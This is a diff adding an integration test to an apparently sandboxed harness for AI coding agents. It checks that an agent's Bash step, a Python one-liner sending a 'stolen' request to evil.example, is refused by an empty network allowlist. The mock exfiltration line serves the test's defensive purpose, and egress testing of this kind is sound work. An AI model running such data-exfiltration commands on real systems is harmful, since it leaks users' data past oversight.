@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import sys
 from pathlib import Path
 from typing import Any
 
@@ -62,3 +63,37 @@ async def test_claude_works_in_a_sandbox_and_goes_on_in_its_session(
     assert (worktree / "b.txt").read_text() == "two\n"
     assert any(config.iterdir())
     assert "half way" in served.headway("events", "--json").stdout, "by the tools' own socket"
+
+
+async def test_claude_reaches_its_model_by_the_tap_and_nothing_else(
+    bubblewrap: None,  # noqa: F811
+    served: Served,
+    repository: Path,
+    tmp_path: Path,
+) -> None:
+    """With an empty list its provider is reached through the engine, which has the key, and no other host is."""
+    user = tmp_path / "user"
+    user.mkdir()
+    code = "import urllib.request as u; u.urlopen('https://evil.example/?stolen')"
+    ask = f'{sys.executable} -c "{code}" 2>&1 | tail -n 1'
+    steps = [Step("I look around.", run=ask), Step("Done.")]
+    async with model_server(steps) as server:
+        served.env |= {"TAPPED_KEY": "sk-made-up-0123456789", "HOME": str(user)}
+        settings_file(
+            served.home,
+            f"grace: 5\nsandbox: {{network: []}}\nagents:\n  claude:\n    command: [{installed('claude')}]\n    env:\n"
+            f"      ANTHROPIC_BASE_URL: {server.url}\n"
+            '      CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: "1"\n    allowed_tools: [Bash]\n'
+            "accounts:\n  work: {agent: claude, key: {env: TAPPED_KEY}, tap: true}\n",
+        )
+        served.start()
+        async with Client(served.home) as client:
+            spec = JobSpec(prompt="look", title="Look", agent="claude", account="work", project=str(repository))
+            (job,) = await client.submit([spec])
+            await served.until_ended([job])
+            detail = await client.job(job)
+        said = served.headway("logs", str(job), "--json").stdout
+        events = served.headway("events").stdout
+    assert detail.job.state == "succeeded", (detail.job.reason, said)
+    assert "403" in said and detail.refused == ["evil.example:443"], said
+    assert "evil.example" in events
